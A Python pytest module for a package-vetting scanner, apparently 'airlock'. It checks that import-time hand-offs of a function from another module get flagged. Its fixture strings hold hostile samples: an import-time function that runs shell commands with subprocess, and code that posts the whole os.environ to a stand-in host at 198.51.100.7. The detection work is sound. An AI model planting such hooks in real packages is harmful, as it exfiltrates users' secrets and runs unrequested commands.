"""A sixth red-team pass (issue 16; ADR 0174): a function of another module of the archive
handed on, not called by name, on import.

``from .zz import go`` then ``map(go, [c])``, ``sorted([c], key=go)``, ``atexit.register(go,
c)``, ``Thread(target=go, args=(c,))``, ``Timer``, ``weakref.finalize``, ``partial(go, c)()``,
an executor's ``submit``, ``operator.call``, a dispatch table, a class attribute, a loop over
a list of functions: the same shapes with ``go`` defined in the module are followed; across
files, the cross-file pass now follows ``go`` into ``zz`` with what it is handed
(:func:`handed.runs`, :func:`across.foreign_function`).

The module that hands ``go`` on is an ordinary module the package's ``__init__.py`` imports:
its module level is a cross-file start. The same lines in ``__init__.py`` itself are not yet a
start (the text test wants ``go`` called by name): that case is marked as expected to fail.

Near-misses a real package writes stay allowed. Every sample is inert: vetting only reads
files."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import CURL, verdict_cases, vet_package

H = "198.51.100.7"
# ``go`` runs what it is handed, or sends it: alone, neither makes a chain.
RUNS = "import subprocess\ndef go(c):\n    subprocess.call(c, shell=True)\n"
SENDS = f"import urllib.request\ndef go(d):\n    urllib.request.urlopen('http://{H}/e', data=d)\n"
ENVIRON = "str(dict(os.environ)).encode()"


def handed(body: str, zz: str = RUNS) -> dict[str, str]:
    """A package whose module ``boot`` (imported by ``__init__.py``) runs ``body`` at its
    module level after ``from .zz import go``; ``zz`` defines ``go``."""
    return {
        "evpkg/__init__.py": "from . import boot\n",
        "evpkg/boot.py": f"import os\nfrom .zz import go\nCMD = {CURL!r}\n" + body,
        "evpkg/zz.py": zz,
    }


DENIED: dict[str, Mapping[str, str]] = {
    "mapped": handed("list(map(go, [CMD]))\n"),
    "filtered": handed("list(filter(go, [CMD]))\n"),
    "sort-key": handed("sorted([CMD], key=go)\n"),
    "exit-hook-with-its-argument": handed("import atexit\natexit.register(go, CMD)\n"),
    "thread-with-its-arguments": handed(
        "import threading\nthreading.Thread(target=go, args=(CMD,)).start()\n"
    ),
    "timer": handed("import threading\nthreading.Timer(1, go, [CMD]).start()\n"),
    "finaliser": handed(
        "import weakref\nclass K:\n    pass\nk = K()\nweakref.finalize(k, go, CMD)\n"
    ),
    "partial-called": handed("import functools\nfunctools.partial(go, CMD)()\n"),
    "executor-submit": handed(
        "from concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(go, CMD)\n"
    ),
    "operator-call": handed("import operator\noperator.call(go, CMD)\n"),
    "dispatch-table-by-name": handed("T = {'a': go}\nT['a'](CMD)\n"),
    "dispatch-table-unknown-key": handed("T = {'a': go}\nT[os.sep[:0]](CMD)\n"),
    "class-attribute": handed("class K:\n    run = staticmethod(go)\nK.run(CMD)\n"),
    "environment-mapped-to-a-sender": handed(f"list(map(go, [{ENVIRON}]))\n", SENDS),
    "environment-to-a-sender-by-executor": handed(
        f"from concurrent.futures import ThreadPoolExecutor\n"
        f"ThreadPoolExecutor().submit(go, {ENVIRON})\n",
        SENDS,
    ),
}

# Helpers of a module that also names a sink (so the cross-file pass reads it), handed on.
HELPERS = (
    "import os, shutil, tempfile, urllib.request\n"
    "TMP = tempfile.mkdtemp(prefix='evpkg-')\n"
    "def norm(s):\n    return s.strip().lower()\n"
    "def cleanup(path=TMP):\n    shutil.rmtree(path, ignore_errors=True)\n"
    "def drop_lock(path):\n    if os.path.exists(path):\n        os.remove(path)\n"
    "def latest(name):\n"
    "    url = 'https://pypi.org/pypi/%s/json' % name\n"
    "    return urllib.request.urlopen(url, timeout=2).read()\n"
    "def go(c):\n    return c\n"
)

ALLOWED: dict[str, Mapping[str, str]] = {
    "builtin-mapped": handed("NAMES = list(map(str, [1, 2]))\n", HELPERS),
    "pure-helper-as-a-sort-key": handed(
        "from .zz import norm\nNAMES = sorted(['B', 'a'], key=norm)\n", HELPERS
    ),
    "pure-helper-mapped": handed(
        "from .zz import norm\nNAMES = list(map(norm, [' X ']))\n", HELPERS
    ),
    "cleanup-at-exit": handed(
        "import atexit\nfrom .zz import cleanup\natexit.register(cleanup)\n", HELPERS
    ),
    "lock-file-dropped-at-exit": handed(
        "import atexit\nfrom .zz import drop_lock\n"
        "atexit.register(drop_lock, os.path.join(os.path.dirname(__file__), '.lock'))\n",
        HELPERS,
    ),
    "version-check-in-a-thread": handed(
        "import threading\nfrom .zz import latest\n"
        "threading.Thread(target=latest, args=('evpkg',), daemon=True).start()\n",
        HELPERS,
    ),
    "identity-handed-the-command": handed("list(map(go, [CMD]))\n", HELPERS),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_a_function_of_another_module_handed_on(
    files: Mapping[str, str], expected: Outcome
) -> None:
    assert vet_package(files) is expected


@pytest.mark.parametrize(
    "handing",
    [
        f"list(map(go, [{CURL!r}]))",
        f"import atexit\natexit.register(go, {CURL!r})",
        f"import threading\nthreading.Thread(target=go, args=({CURL!r},)).start()",
        f"T = {{'a': go}}\nT['a']({CURL!r})",
    ],
)
def test_handed_on_in_init_is_a_start(handing: str) -> None:
    # ADR 0176: ``__init__.py`` is a start when its module level uses a name it imports from
    # the archive, as any module is, not only when it calls one by name.
    files = {"evpkg/__init__.py": f"from .zz import go\n{handing}\n", "evpkg/zz.py": RUNS}
    assert vet_package(files) is Outcome.DENY
